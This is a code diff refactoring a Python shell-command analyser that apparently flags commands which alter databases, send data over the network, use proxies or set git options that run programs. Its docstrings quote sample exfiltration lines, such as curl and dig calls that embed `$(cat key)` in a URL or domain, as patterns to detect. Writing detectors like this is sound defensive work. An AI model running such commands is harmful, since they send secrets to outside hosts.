@@ -5,7 +5,7 @@ from __future__ import annotations
 
 import itertools
 import re
-from collections.abc import Callable, Iterator, Mapping
+from collections.abc import Callable, Iterator, Mapping, Sequence
 
 from shell.bash import Command
 from shell.catalogue import Entry, operands
@@ -61,14 +61,18 @@ def _changes_database(state: State, known: Entry, args: Args, command: Command) 
         return False
     is_mongo = known.more["asks"] == "mongo"
     judge = statements.changes_mongo if is_mongo else statements.changes_sql
-    return any(text is None or judge(text) for text in texts)
+    return None in texts or any(map(judge, filter(None, texts)))
 
 
 def _changes_redis(state: State, known: Entry, args: Args, command: Command) -> bool:
     if any(arg.start.startswith(_REDIS_LOOKS) for arg in args[1:]):
         return False
-    asked = operands(known, _values(args)) or list((input_of(state, command) or "").split())
-    return statements.changes_redis(asked)
+    return statements.changes_redis(operands(known, _values(args)) or _read(state, command))
+
+
+def _read(state: State, command: Command) -> list[str | None]:
+    text = input_of(state, command)
+    return [] if text is None else [*text.split()]
 
 
 def _statements(state: State, known: Entry, args: Args, command: Command) -> Iterator[str | None]:
@@ -93,17 +97,17 @@ def _methods(state: State, known: Entry, args: Args, command: Command) -> None:
     """`curl -X DELETE`."""
     said = [text for option in known.listed("methods") for text in texts_of(known, option, args)]
     said += [arg.start[2:] for arg in args[1:] if re.match(r"-X[A-Z]", arg.start)]
-    for method in {(each or "?").upper() for each in said} - _READS:
+    for method in {str(each).upper() for each in said} - _READS:
         state.add("send", known.name, method, is_local=False)
 
 
 def _fetches(state: State, known: Entry, args: Args, command: Command) -> None:
     """`curl "http://x/$(cat key)"`, `dig $(cat key).example.org`: what a command prints is sent."""
-    asked, given = known.listed("fetches"), {arg.text for arg in args[1:]}
-    if asked != ["all"] and given.isdisjoint(asked):
+    given = {"all", *(arg.text for arg in args[1:])}
+    if given.isdisjoint(known.listed("fetches")):
         return
-    hidden = {None} if known.name in _RESOLVERS else set()
-    if any(arg.is_printed or arg.text in hidden for arg in args[1:]):
+    is_hidden = known.name in _RESOLVERS and None in given
+    if is_hidden or any(arg.is_printed for arg in args[1:]):
         state.add("send", known.name, "what a command prints", is_local=False)
     for option in {arg.start for arg in args}.intersection(known.listed("proxies")):
         _proxied(state, known, option, args)
@@ -111,16 +115,17 @@ def _fetches(state: State, known: Entry, args: Args, command: Command) -> None:
 
 def _proxied(state: State, known: Entry, option: str, args: Args) -> None:
     """`curl -x PROXY`, `wget -e https_proxy=PROXY`."""
-    value = next(iter(texts_of(known, option, args)), None)
-    if option != "-e" or "proxy" in (value or "proxy"):
+    value = next(filter(None, texts_of(known, option, args)), "proxy")
+    if option != "-e" or "proxy" in value:
         state.add("send", known.name, f"{option}: what is asked goes there", is_local=False)
 
 
 def openssl(state: State, known: Entry, args: Args, command: Command) -> None:
     """`openssl s_client` sends what it reads; looking at a certificate sends nothing."""
-    has_nothing = any(each.word.literal == "/dev/null" for each in command.redirects)
-    is_client = [arg.text for arg in args[1:2]] == ["s_client"]
-    if is_client and not has_nothing and input_of(state, command) not in ("", "Q"):
+    if [arg.text for arg in args[1:2]] != ["s_client"]:
+        return
+    given = {input_of(state, command), *(each.word.literal for each in command.redirects)}
+    if given.isdisjoint(("", "Q", "/dev/null")):
         state.add("send", known.name, "s_client", is_local=False)
 
 
@@ -131,7 +136,7 @@ def git(state: State, known: Entry, args: Args, command: Command) -> None:
     """Judge settings of git that run programs, given once or for good."""
     values = [arg.start for arg in args[1:]]
     _git_options(state, values)
-    plain = [value or "" for value in operands(known, _values(args))]
+    plain = operands(known, _values(args))
     if plain[:1] == ["config"] and _GIT_READS.isdisjoint(values):
         _git_config(state, plain[1:], is_wide=not {"--global", "--system"}.isdisjoint(values))
     if plain[:2] == ["bisect", "run"]:
@@ -146,12 +151,14 @@ def _git_options(state: State, values: list[str]) -> None:
             _git_program(state, text)
 
 
-def _git_config(state: State, plain: list[str], *, is_wide: bool) -> None:
+def _git_config(state: State, plain: Sequence[str | None], *, is_wide: bool) -> None:
     """`git config KEY VALUE`, `git config set KEY VALUE`."""
     keys = plain[1:] if plain[:1] in (["set"], ["unset"]) else plain
-    sets = len(plain) > 1 and bool(keys)
-    if sets and (is_wide or _GIT_SETTING.match(keys[0])):
-        state.add("system", "git", f"config {keys[0]}", is_local=False)
+    key = keys[0] if len(plain) > 1 else None
+    if key is None:
+        return
+    if is_wide or _GIT_SETTING.match(key):
+        state.add("system", "git", f"config {key}", is_local=False)
 
 
 def _git_program(state: State, text: str) -> None:
@@ -163,8 +170,8 @@ def _git_program(state: State, text: str) -> None:
 
 def _jobs(state: State, known: Entry, args: Args, command: Command) -> None:
     """`kill %1`, `kill $!`: jobs of the script alone."""
-    named = operands_of(known, args[1:])
-    if named and all(arg.start.startswith("%") for arg in named):
+    signs = {arg.start[:1] for arg in operands_of(known, args[1:])}
+    if signs == {"%"}:
         state.forget("kill")
 
 
